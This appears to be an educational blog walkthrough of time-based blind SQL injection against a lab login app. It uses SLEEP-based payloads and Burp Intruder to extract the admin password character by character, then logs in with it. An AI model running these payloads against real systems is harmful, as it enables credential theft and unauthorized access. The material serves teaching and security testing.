Theapplication requires an input to verify whether the user ID is valid or invalid. In the database, there is a table named users with username and password columns. Tosolve this, we need to find the password of administrator using time-based SQL injection.

We will utilise Burp Suite’s Repeater to intercept and modify requests easily. To start, let’s test the input field with both a valid and an invalid user ID.

Valid user ID, id=1

Invalid User ID, id=100

In a Time-based SQL injection, the response does not matter but the execution time is. Most of the times, a prolonged execution time indicates TRUE, while a short execution time indicates FALSE. However, this does not entirely true, depending on how we use our payloads.

In this article, we will follow the common approach where the SLEEP() is use for TRUE, while none for FALSE.

Simplified version:
longer execution time  = TRUE
shorter execution time = FALSE

Now, let’s check if the input is vulnerable to time-based SQL injection. We will merge our payloads with the valid user ID to confirm the execution of our injections.

1' AND IF(1=1, SLEEP(2), 0) --

Result: TRUE . Observe the response time is 2011 millis

A FALSE response occurs if the outer condition is not met. For example, 1=2 always evaluates to FALSE, so the inner condition SLEEP(2) will not be executed.

1' AND IF(1=2, SLEEP(2), 0) --

Result: FALSE . Observe the response time is 2 millis

Next, we will check whether the user administrator exists in the database.

1' AND IF((SELECT COUNT(*) FROM users WHERE username='administrator') = 1, SLEEP(2), 0) --Result: FALSE :(

How about a user admin ?

1' AND IF((SELECT COUNT(*) FROM users WHERE username='admin') = 1, SLEEP(2), 0) --

Result: TRUE Nice!

Now that we have identified there is a user with a username is admin, which potentially an administrator account, let’s proceed to uncover the password. Begin with the length of the password.1' AND IF((SELECT LENGTH(password) FROM users WHERE username='admin') > 20, SLEEP(2), 0) --

Result: FALSE . There is no delay. This means the password’s length is not greater than 20 characters.

Does that means the length is 19? Let’s try it out.

1' AND IF((SELECT LENGTH(password) FROM users WHERE username='admin') = 19, SLEEP(2), 0) --Result: TRUE . Gotcha!

We determined that the password is 19-characters long. Now, let’s find the first character of the password.

1' AND IF((SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin') > 's', SLEEP(2), 0) --

Result: FALSE . Hmm…so the first character is not over the character ‘s’

Let’s confirm if the first character is actually ‘s’.

1' AND IF((SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin') = 's', SLEEP(2), 0) --

Result: TRUE . Gotcha!

Now, we are moving to the second character of the password. We attempted to see if the character starts with a character before ‘o’.

1' AND IF((SELECT SUBSTRING(password,2,1) FROM users WHEREusername='admin') < 'o', SLEEP(2), 0) --

Result: FALSE . Aha! So the character must be ‘o’ or beyond it.

id=1' AND IF((SELECT SUBSTRING(password,2,1) FROM users WHERE username='admin') = 'u', SLEEP(2), 0) --

Result: TRUE . We guessed it right this time. So the second character is ‘u’.

It is time consuming to do this again and again. Let’s speed up the process with Burp Suite’s Intruder. Start by sending the request to Intruder and select Cluster bomb as the attack type. Clear the payload position with Clear § and click Add § at the location where payloads will be injected.

Next, go to the ‘Payload’ tab and configure the payloads as follows:

For the first payload set, we choose numerical payloads. In the settings, we defined the range as 1 to 19 to match the discovered password length, with an increment step of 1.

For the second payload set, we choose a brute-force approach. In the settings, we set the minimum and maximum lengths to 1, while the characters remained at the default settings.

Click ‘Start attack’ and patiently await its completion, Once done, click on ‘Columns’ and enable the ‘Response completed’ option to view the results’ execution time.

Sort the results by searching for responses completed in 2000ms (or more) and rearrange the characters inthe correct order.

Once sorted, we can see the password for the user admin is superstrongpassword. Let’s try to validate if the password is correct by login as the admin with the username andpassword that we have discovered.username : admin
password : superstrongpassword

Upon clicking the ‘Login’, we have successfully login as admin. Nice!

That concludes part 3 of the“Understanding Types of SQL Injection Attacks” series, thatcompleted the Inferential SQL Injection type. We hope you have gained valuable insights from this post. Stay tuned for next parts.

Thank you.Author: Alysha from RE:HACK